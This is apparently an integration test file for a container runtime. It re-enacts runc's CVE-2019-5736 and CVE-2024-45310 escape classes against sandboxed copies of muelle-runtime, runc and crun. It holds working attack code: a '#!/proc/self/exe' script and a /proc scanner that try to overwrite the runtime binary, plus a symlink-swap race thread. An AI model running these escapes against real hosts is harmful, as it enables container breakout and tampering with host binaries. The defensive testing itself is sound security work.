"""Container escapes of runc's CVE history, tried on muelle-runtime, runc and crun.

Safely: each runtime runs from a private copy of its binary (muelle-runtime from a copied
interpreter, ``python -m venv --copies``), and the tests check that copy's sha256, so a
break-out damages nothing real.

- CVE-2019-5736 class: a container process reaches the runtime's own executable through
  /proc/<pid>/exe (or by exec'ing /proc/self/exe) and writes to it once it is no longer
  running. The runtime must be non-dumpable while it is in the container and run from a
  sealed copy, so the file a container can reach cannot be written.
- CVE-2024-45310 class: a directory swapped for a symlink (renameat2 RENAME_EXCHANGE)
  while the runtime creates a mount target or a device node under it must never make the
  runtime create anything outside the rootfs.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.runtime.bundle import DOCKER_CAPS, make_rootfs, write_bundle
from tests.integration.runtime.conftest import Runtime, _cleanup

pytestmark = pytest.mark.root

REPO = Path(__file__).resolve().parents[3]
CRUN_WRAPPER = 'umount -l /sys/fs/cgroup/unified 2>/dev/null; exec "$0" "$@"'


class Copied(Runtime):
    """A runtime run from a private copy of its executable (``target``)."""

    target: Path

    def digest(self) -> str:
        return hashlib.sha256(self.target.read_bytes()).hexdigest()


def _copy_runtime(name: str, work: Path) -> Copied:
    bindir = work / "rt"
    bindir.mkdir()
    wrapper = bindir / name
    if name == "muelle-runtime":
        # A venv with a copy of the interpreter: the runtime's processes execute that file.
        subprocess.run([sys.executable, "-m", "venv", "--copies", "--without-pip",
                        str(work / "py")], check=True, capture_output=True)
        target = work / "py" / "bin" / "python3"
        wrapper.write_text(f"#!/bin/sh\nPYTHONPATH={REPO} exec {target} -S -m "
                           f'services.runtime.main "$@"\n')
    else:
        found = shutil.which(name)
        if found is None:
            raise AssertionError(f"{name} is not installed (make setup installs it)")
        target = bindir / f"{name}.bin"
        shutil.copy2(found, target)
        if name == "crun":  # crun 1.8 refuses this hybrid cgroup layout (runtimes.py)
            wrapper.write_text("#!/bin/sh\nexec unshare --mount --propagation private sh -c "
                               f"'{CRUN_WRAPPER}' {target} \"$@\"\n")
        else:
            wrapper.write_text(f'#!/bin/sh\nexec {target} "$@"\n')
    wrapper.chmod(0o755)
    rt = Copied(name, str(wrapper), work / "state", work)
    rt.target = target
    return rt


@pytest.fixture(params=["muelle-runtime", "runc", "crun"])
def copied(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Copied]:
    rt = _copy_runtime(request.param, tmp_path)
    try:
        yield rt
    finally:
        leftovers = _cleanup(rt)
    assert not leftovers, f"{rt.name} left behind: {leftovers}"


def _bind(source: Path | str, dest: str, ro: bool = False) -> dict[str, object]:
    return {"destination": dest, "type": "bind", "source": str(source),
            "options": ["rbind", "ro" if ro else "rw"]}


def _private_rootfs(work: Path) -> Path:
    """A busybox rootfs of this test's own, with /lib and /lib64 as on Debian (merged /usr)."""
    rootfs = work / "rootfs"
    make_rootfs(rootfs)
    (rootfs / "lib").symlink_to("usr/lib")
    (rootfs / "lib64").symlink_to("usr/lib64")
    return rootfs


def _python_mounts() -> list[dict[str, object]]:
    """What an image that ships this machine's Python would hold, bound read-only: the
    shared libraries and the interpreter's prefix (its stdlib and libpython)."""
    return [_bind("/usr/lib", "/usr/lib", ro=True), _bind("/usr/lib64", "/usr/lib64", ro=True),
            _bind(sys.base_prefix, sys.base_prefix, ro=True)]


# Run by the runtime's own executable (a Python, or runc/crun) as the container's process:
# keep an O_PATH fd of /proc/self/exe, become a shell, and write through the fd once
# nothing executes the file any more (ETXTBSY until then).
ATTACK = """#!/proc/self/exe
import os
fd = os.open("/proc/self/exe", os.O_PATH)
os.set_inheritable(fd, True)
target = os.readlink("/proc/self/exe")
script = ('i=0; while [ $i -lt 100 ]; do '
          'if echo PWNED >> /proc/self/fd/%d 2>/dev/null; then echo "wrote %s"; exit 0; fi; '
          'i=$((i+1)); usleep 20000; done; echo "refused %s"' % (fd, target, target))
os.execv("/bin/sh", ["sh", "-c", "{ %s; } > /out/result" % script])
"""


def _attack_files(out: Path) -> None:
    out.mkdir()
    evil = out / "evil"
    evil.write_text(ATTACK)
    evil.chmod(0o755)


def _env() -> list[str]:
    return ["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            f"PYTHONHOME={sys.base_prefix}"]


def _wait_gone(pid: int, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with open(f"/proc/{pid}/stat") as f:
                if f.read().rsplit(")", 1)[1].split()[0] in ("Z", "X"):
                    return
        except OSError:
            return
        time.sleep(0.02)
    raise AssertionError(f"process {pid} still running after {timeout} s")


def _wait_file(path: Path, timeout: float = 20) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if path.exists() and path.read_text().strip():
            return path.read_text()
        time.sleep(0.02)
    return path.read_text() if path.exists() else ""


def _wait_exists(path: Path, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        assert time.monotonic() < deadline, f"{path} did not appear"
        time.sleep(0.02)


def _bundle(rt: Copied, cid: str, args: list[str], rootfs: Path,
            mounts: list[dict[str, object]], caps: list[str] | None = None) -> Path:
    rt.ids.append(cid)
    bundle = write_bundle(rt.work / cid, rootfs, args, cid, env=_env())
    cfg = json.loads((bundle / "config.json").read_text())
    cfg["mounts"] += mounts
    # The attacks need no seccomp or nnp help; Docker's default leaves nnp off too.
    cfg["process"]["noNewPrivileges"] = False
    if caps is not None:
        cfg["process"]["capabilities"] = {k: caps for k in ("bounding", "effective",
                                                            "permitted")}
    (bundle / "config.json").write_text(json.dumps(cfg))
    return bundle


def test_entrypoint_exec_of_proc_self_exe_cannot_write_the_runtime(copied: Copied) -> None:
    """An image whose entrypoint is a ``#!/proc/self/exe`` script runs the runtime's
    executable as the container's pid 1; what it reaches must not be writable."""
    rootfs = _private_rootfs(copied.work)
    out = copied.work / "out"
    _attack_files(out)
    before = copied.digest()
    bundle = _bundle(copied, "entry", ["/out/evil"], rootfs,
                     [_bind(out, "/out"), *_python_mounts()])
    code, err, pid_file = copied.create("entry", bundle)
    assert code == 0, err
    pid = int(pid_file.read_text())
    start = copied.cmd("start", "entry")
    assert start.returncode == 0, start.stderr
    _wait_gone(pid)
    result = (out / "result").read_text() if (out / "result").exists() else ""
    copied.cmd("delete", "--force", "entry")
    assert copied.digest() == before, f"{copied.name}'s executable was changed: {result}"
    assert "wrote" not in result


def test_exec_of_proc_self_exe_cannot_write_the_runtime(copied: Copied) -> None:
    """``exec -d`` of a ``#!/proc/self/exe`` script: the exec'd process runs the runtime's
    executable with the container's credentials."""
    rootfs = _private_rootfs(copied.work)
    out = copied.work / "out"
    _attack_files(out)
    before = copied.digest()
    bundle = _bundle(copied, "execd", ["sleep", "60"], rootfs,
                     [_bind(out, "/out"), *_python_mounts()])
    code, err, _ = copied.create("execd", bundle)
    assert code == 0, err
    assert copied.cmd("start", "execd").returncode == 0
    process = copied.work / "process.json"
    process.write_text(json.dumps({"args": ["/out/evil"], "cwd": "/", "env": _env(),
                                   "user": {"uid": 0, "gid": 0}, "terminal": False}))
    pid_file = copied.work / "execd.pid"
    proc = copied.cmd("exec", "-d", "--pid-file", str(pid_file), "--process", str(process),
                      "execd")
    if proc.returncode == 0:
        # The script's shell keeps the pid; runc's and crun's copies refuse it at once.
        _wait_gone(int(pid_file.read_text()))
    result = (out / "result").read_text() if (out / "result").exists() else proc.stderr
    copied.cmd("delete", "--force", "execd")
    assert copied.digest() == before, f"{copied.name}'s executable was changed: {result}"
    assert "wrote" not in result


# A container process that looks for runtime processes among its neighbours: any
# /proc/<pid>/exe that is not a file of its own rootfs is opened, and written to until
# the write succeeds or a second passes.
SCANNER = r"""
: > /out/scan.log
end=$(( $(date +%s) + 60 ))
while [ ! -e /out/stop ] && [ "$(date +%s)" -lt $end ]; do
  for d in /proc/[0-9]*; do
    t=$(readlink $d/exe 2>/dev/null) || continue
    [ -z "$t" ] && continue
    [ -e "$t" ] && continue
    ( exec 3<$d/exe || exit 0
      echo "open ${d#/proc/} $t" >> /out/scan.log
      i=0
      while [ $i -lt 50 ]; do
        if echo PWNED >> /proc/self/fd/3; then echo "wrote $t" >> /out/scan.log; exit 0; fi
        i=$((i+1)); usleep 20000
      done ) 2>/dev/null &
  done
done
wait
"""


@pytest.mark.parametrize("ptrace", [False, True], ids=["default-caps", "cap-sys-ptrace"])
def test_exec_race_cannot_reach_the_runtime(copied: Copied, ptrace: bool) -> None:
    """A neighbour scanning /proc while the runtime execs into the container: without
    CAP_SYS_PTRACE it cannot open the runtime's executable at all (non-dumpable); with
    it, what it opens is a sealed copy that refuses writes."""
    out = copied.work / "out"
    out.mkdir()
    before = copied.digest()
    caps = [*DOCKER_CAPS, "CAP_SYS_PTRACE"] if ptrace else None
    make_rootfs(copied.work / "rootfs-scan")
    bundle = _bundle(copied, "scan", ["sh", "-c", SCANNER], copied.work / "rootfs-scan",
                     [_bind(out, "/out")], caps)
    code, err, pid_file = copied.create("scan", bundle)
    assert code == 0, err
    pid = int(pid_file.read_text())
    assert copied.cmd("start", "scan").returncode == 0
    try:
        _wait_exists(out / "scan.log")
        process = copied.work / "true.json"
        process.write_text(json.dumps({"args": ["true"], "cwd": "/", "env": _env(),
                                       "user": {"uid": 0, "gid": 0}, "terminal": False}))
        for i in range(20):
            flags = ["-d"] if i % 2 else []
            assert copied.cmd("exec", *flags, "--process", str(process), "scan").returncode == 0
    finally:
        (out / "stop").touch()
        _wait_gone(pid, 30)
        copied.cmd("delete", "--force", "scan")
    log = (out / "scan.log").read_text().splitlines()
    assert copied.digest() == before, f"{copied.name}'s executable was changed: {log}"
    assert not [line for line in log if line.startswith("wrote")], log
    if not ptrace:
        assert not log, f"a container process opened a runtime's executable: {log}"


# ---------------------------------------------------------------- CVE-2024-45310 class

_RENAME_EXCHANGE = 2
_libc = ctypes.CDLL(None, use_errno=True)


def _swapper(a: Path, b: Path, stop: threading.Event) -> None:
    """Exchange a directory and a symlink as fast as the kernel lets us."""
    ra, rb = os.fsencode(a), os.fsencode(b)
    at_fdcwd = -100
    while not stop.is_set():
        for _ in range(1000):
            _libc.renameat2(at_fdcwd, ra, at_fdcwd, rb, _RENAME_EXCHANGE)


@pytest.mark.parametrize("name", ["muelle-runtime", "crun"])
def test_swapped_symlink_never_creates_outside_the_rootfs(name: str, tmp_path: Path) -> None:
    """A volume's directory swapped with a symlink to a host directory while create makes
    mount targets and device nodes under it. runc 1.1.5, Debian's, has this bug
    (CVE-2024-45310, fixed in runc 1.1.14), so it is not a peer here."""
    rt = _copy_runtime(name, tmp_path)
    try:
        _race(rt, tmp_path)
    finally:
        leftovers = _cleanup(rt)
    assert not leftovers, f"{rt.name} left behind: {leftovers}"


def _race(rt: Copied, work: Path) -> None:
    rootfs = work / "rootfs"
    make_rootfs(rootfs)
    vol, outside = work / "vol", work / "outside"
    vol.mkdir()
    outside.mkdir()
    (vol / "d").mkdir()
    (vol / "l").symlink_to(outside)
    mounts: list[dict[str, object]] = [_bind(vol, "/vol")]
    mounts += [{"destination": f"/vol/d/m{i}/x", "type": "tmpfs", "source": "tmpfs",
                "options": ["nosuid"]} for i in range(8)]
    devices = [{"path": f"/vol/d/n{i}/null", "type": "c", "major": 1, "minor": 3,
                "fileMode": 0o666, "uid": 0, "gid": 0} for i in range(4)]
    stop = threading.Event()
    swapper = threading.Thread(target=_swapper, args=(vol / "d", vol / "l", stop))
    swapper.start()
    try:
        for i in range(40):
            cid = f"race{i}"
            bundle = _bundle(rt, cid, ["true"], rootfs, mounts)
            cfg = json.loads((bundle / "config.json").read_text())
            cfg["linux"]["devices"] = devices
            (bundle / "config.json").write_text(json.dumps(cfg))
            code, _err, _ = rt.create(cid, bundle)
            if code == 0:
                rt.cmd("delete", "--force", cid)
            if any(outside.iterdir()):
                break
    finally:
        stop.set()
        swapper.join()
    made = sorted(str(p.relative_to(outside)) for p in outside.rglob("*"))
    with contextlib.suppress(OSError):
        shutil.rmtree(outside)
    assert not made, f"{rt.name} created outside the rootfs: {made}"


# ---------------------------------------------------------------- smaller ones


def test_exec_refuses_a_cwd_through_a_leaked_fd(muelle: Runtime, rootfs: Path) -> None:
    """A caller's directory fd must not give an exec'd process a host cwd: the caller's
    fds are closed before chdir, and a cwd outside the container's root is refused."""
    host_dir = muelle.work / "host-secret"
    host_dir.mkdir()
    (host_dir / "secret").write_text("host")
    bundle = muelle.bundle("cwd", ["sleep", "60"], rootfs)
    code, err, _ = muelle.create("cwd", bundle)
    assert code == 0, err
    assert muelle.cmd("start", "cwd").returncode == 0
    leaked = os.open(host_dir, os.O_RDONLY | os.O_DIRECTORY)
    try:
        process = muelle.work / "ls.json"
        process.write_text(json.dumps({"args": ["ls", "."], "cwd": f"/proc/self/fd/{leaked}",
                                       "env": _env(), "user": {"uid": 0, "gid": 0}}))
        proc = subprocess.run([muelle.binary, "--root", str(muelle.root), "exec", "--process",
                               str(process), "cwd"], capture_output=True, text=True,
                              timeout=60, stdin=subprocess.DEVNULL, pass_fds=(leaked,))
    finally:
        os.close(leaked)
        muelle.cmd("delete", "--force", "cwd")
    assert "secret" not in proc.stdout
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr


def test_state_is_private(muelle: Runtime, rootfs: Path) -> None:
    """0700 state dirs (the new root's parents too) and 0600 state.json, as runc's."""
    muelle.root = muelle.work / "new" / "parent" / "state"
    bundle = muelle.bundle("modes", ["true"], rootfs)
    code, err, _ = muelle.create("modes", bundle)
    assert code == 0, err
    try:
        modes = {p: (muelle.work / p).stat().st_mode & 0o777
                 for p in ("new", "new/parent", "new/parent/state", "new/parent/state/modes",
                           "new/parent/state/modes/state.json")}
    finally:
        muelle.cmd("delete", "--force", "modes")
    assert modes == {"new": 0o700, "new/parent": 0o700, "new/parent/state": 0o700,
                     "new/parent/state/modes": 0o700,
                     "new/parent/state/modes/state.json": 0o600}


def test_ambient_capabilities_not_inheritable_are_skipped(muelle: Runtime,
                                                          rootfs: Path) -> None:
    """runc and crun skip them; so does muelle-runtime (it used to fail the create)."""
    caps = {"bounding": DOCKER_CAPS, "effective": DOCKER_CAPS, "permitted": DOCKER_CAPS,
            "inheritable": ["CAP_KILL"], "ambient": ["CAP_KILL", "CAP_NET_BIND_SERVICE"]}
    bundle = muelle.bundle("amb", ["grep", "CapAmb", "/proc/self/status"], rootfs,
                           capabilities=caps, user={"uid": 1000, "gid": 1000})
    proc = muelle.run("amb", bundle)
    assert proc.returncode == 0, proc.stderr
    assert int(proc.stdout.split()[1], 16) == 1 << 5  # CAP_KILL alone
